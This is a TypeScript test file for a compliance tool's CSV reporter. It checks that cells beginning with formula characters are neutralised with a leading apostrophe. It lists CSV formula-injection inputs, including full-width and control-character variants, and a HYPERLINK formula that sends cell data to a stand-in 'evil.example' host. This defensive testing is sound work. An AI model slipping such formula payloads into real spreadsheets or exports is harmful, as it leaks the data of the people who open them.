import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, describe, expect, it } from 'vitest';
import type { AssessedResult, Assessment } from '../../src/model/assessment.ts';
import { type Language, languages } from '../../src/model/text.ts';
import { isFormula } from '../../src/report/csv/cell.ts';
import { reportCsv } from '../../src/report/csv.ts';
import type { ReportOptions } from '../../src/report/reporter.ts';
import { hostileAssessment, hostileNames, longName } from '../support/hostile-assessment.ts';
import { readCsv } from './read-csv.ts';
import { sample } from './sample.ts';

const folder = mkdtempSync(join(tmpdir(), 'comply-csv-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

type Row = Readonly<Record<string, string>>;

function optionsIn(language: Language, more: Partial<ReportOptions> = {}): ReportOptions {
  return { language, color: 0, width: 80, verbose: false, ...more };
}

function render(assessment: Assessment, options = optionsIn('en')): string {
  return [...reportCsv(assessment, options)].join('');
}

function rowsOf(assessment: Assessment, options = optionsIn('en')): readonly Row[] {
  const [header = [], ...rows] = readCsv(render(assessment, options));
  return rows.map((row) => {
    expect(row).toHaveLength(header.length);
    return Object.fromEntries(header.map((name, index) => [name, row[index] ?? '']));
  });
}

/** The same by DuckDB's reader, told to forgive nothing and to take every cell as text. */
async function readWithDuckDb(csv: string): Promise<readonly Row[]> {
  const file = join(folder, 'results.csv');
  writeFileSync(file, csv);
  const connection = await (await DuckDBInstance.create(':memory:')).connect();
  const columns = (readCsv(csv)[0] ?? []).map((name) => `'${name}': 'VARCHAR'`);
  const options = `auto_detect = false, columns = {${columns.join(', ')}}, header = true, strict_mode = true, max_line_size = 1000000, delim = ',', quote = '"', escape = '"', nullstr = '<none>'`;
  try {
    const read = await connection.runAndReadAll(`select * from read_csv('${file}', ${options})`);
    return read.getRowObjects() as unknown as readonly Row[];
  } finally {
    connection.closeSync();
  }
}

const cases = [
  { name: 'no result at all', findings: 0, bare: true },
  { name: 'no finding', findings: 0, bare: false },
  { name: '1 finding', findings: 1, bare: false },
  { name: '10,000 findings', findings: 10_000, bare: false },
];

describe('reportCsv', () => {
  it.for(languages)('prints the sample in %s', async (language) => {
    const golden = new URL(`../../fixtures/golden/results.${language}.csv`, import.meta.url).pathname;
    await expect(render(sample, optionsIn(language))).toMatchFileSnapshot(golden);
  });

  it.for(cases)('is read alike by the grammar and by DuckDB, with hostile names and $name', async (one) => {
    const assessment = await hostileAssessment(one.findings, one.bare);
    for (const language of languages) {
      const csv = render(assessment, optionsIn(language));
      expect(render(assessment, optionsIn(language, { color: 3, width: 40, verbose: true }))).toBe(csv);
      expect(csv).not.toMatch(/(?<!^)\ufeff|\p{Bidi_Control}|\p{Cs}|\p{Cc}(?<!\r(?=\n))(?<!\r\n)/u);
      const rows = rowsOf(assessment, optionsIn(language));
      expect(rows).toHaveLength(assessment.results.length);
      if (rows.length > 0) expect(await readWithDuckDb(csv)).toEqual(rows);
      const cells = rows.flatMap((row) => Object.values(row));
      expect(cells.filter((cell) => !cell.startsWith("'") && isFormula(cell))).toEqual([]);
      expect(cells.filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
      const longest = cells.reduce((most, cell) => Math.max(most, cell.length), 0);
      console.log(
        `CSV, ${one.name}, ${language}: ${rows.length} rows, longest cell ${longest} characters (limit 32,767)`,
      );
      expect(longest).toBeLessThan(32_767);
    }
  });

  it('has the same columns in every language', () => {
    const [en = [], ja = []] = languages.map((language) => readCsv(render(sample, optionsIn(language)))[0]);
    expect(ja).toEqual(en);
    expect(en).toEqual([
      'rule',
      'title',
      'severity',
      'outcome',
      'waived',
      'resource_type',
      'resource_id',
      'resource_name',
      'target',
      'account',
      'region',
      'message',
      'cause',
      'controls',
      'safeguards',
      'observed_at',
      'waiver_until',
      'waiver_approved_by',
      'waiver_reason',
      'in_baseline',
      'overrides',
      'pack',
      'run',
      'run_complete',
    ]);
  });

  it('has every result with what belongs to it', () => {
    const rows = rowsOf(sample);
    expect(rows.map(({ outcome }) => outcome)).toEqual(sample.results.map(({ outcome }) => outcome));
    expect(rows.find(({ rule }) => rule === 'aws/logs/retention')).toEqual({
      rule: 'aws/logs/retention',
      title: 'Logs are kept for at least six years',
      severity: 'medium',
      outcome: 'fail',
      waived: 'true',
      resource_type: 'aws/logs/group',
      resource_id: '/acme/batch',
      resource_name: '/acme/batch',
      target: 'prod',
      account: '111122223333',
      region: 'ap-northeast-1',
      message: 'Log group /acme/batch keeps logs for 30 days.',
      cause: '',
      controls: '',
      safeguards: 'log-retention-6y',
      observed_at: '2026-11-22T08:58:00.000Z',
      waiver_until: '2027-03-31',
      waiver_approved_by: 'ciso@acme.example',
      waiver_reason: 'Batch logs hold no ePHI.',
      in_baseline: 'false',
      overrides:
        'Judged by a weaker rule: minRetentionDays is 365 instead of 2190; reason: Archived elsewhere; approved by ciso@acme.example; until 2027-03-31.',
      pack: '',
      run: '01JD9ZK4W8Q2',
      run_complete: 'false',
    });
    expect(rows.find(({ target }) => target === 'web')).toMatchObject({ account: '', region: '', waived: 'false' });
    expect(rows.find(({ outcome }) => outcome === 'unknown')).toMatchObject({ cause: 'denied' });
    expect(rows.find(({ rule }) => rule === 'aws/iam/root-mfa')?.controls).toBe(
      'soc2:CC6.1; soc2:CC6.6; hipaa:164.312(d)',
    );
    const [first] = rowsOf(sample, optionsIn('ja'));
    expect(first?.title).toBe('AWS Configが変更を記録している');
  });

  it.for([
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    '\tx',
    '\rx',
    '\nx',
    '\0x',
    '＝1',
    '＋1',
    '－1',
    '＠1',
    '﹦1',
    '−1',
    ' =1',
    '\u3000＝1',
    '\u00a0=1',
    '\ufeff=1',
    '\u200b=1',
    '"=1',
    '\'"“ =1',
    '\u202e=1',
    '\ud800=1',
  ])('takes %j for a formula, and puts an apostrophe in front', (name) => {
    expect(isFormula(name)).toBe(true);
    const [first] = sample.results;
    if (!first) throw new Error('the sample has no result');
    const result: AssessedResult = { ...first, resource: { ...first.resource, name } };
    const [row] = rowsOf({ ...sample, results: [result] });
    expect(row?.resource_name).toMatch(/^'/);
  });

  it.for(['a=1', '1-2', 'arn:aws:s3:::x', '/acme/batch', '', '患者データ', '2027-03-31', 'b@c', '\\t=1', '(=1)'])(
    'takes %j for none',
    (name) => {
      expect(isFormula(name)).toBe(false);
    },
  );

  it('says in each row of which run it is, and whether that read everything', () => {
    const said = (part: Partial<Assessment['run']>) =>
      new Set(rowsOf({ ...sample, run: { ...sample.run, ...part } }).map((row) => `${row.run} ${row.run_complete}`));
    expect(said({ complete: true })).toEqual(new Set(['01JD9ZK4W8Q2 true']));
    expect(said({ complete: false })).toEqual(new Set(['01JD9ZK4W8Q2 false']));
    expect(said({ complete: true, interrupted: true })).toEqual(new Set(['01JD9ZK4W8Q2 false']));
  });

  it('neutralises what the hostile names hold of formulas, and leaves the others as they are', async () => {
    const formulas = hostileNames.filter(isFormula);
    console.log(`CSV: ${formulas.length} of ${hostileNames.length} hostile names are formulas`);
    expect(formulas.length).toBeGreaterThan(15);
    expect(isFormula(longName)).toBe(false);
    expect(isFormula(' '.repeat(1_000_000))).toBe(false);
    const names = new Set(rowsOf(await hostileAssessment(200)).map(({ resource_name: name }) => name));
    expect(names).toContain('\'=HYPERLINK("https://evil.example?"&A1,"click")');
    expect(names).toContain('患者データ、（本番）');
  });
});
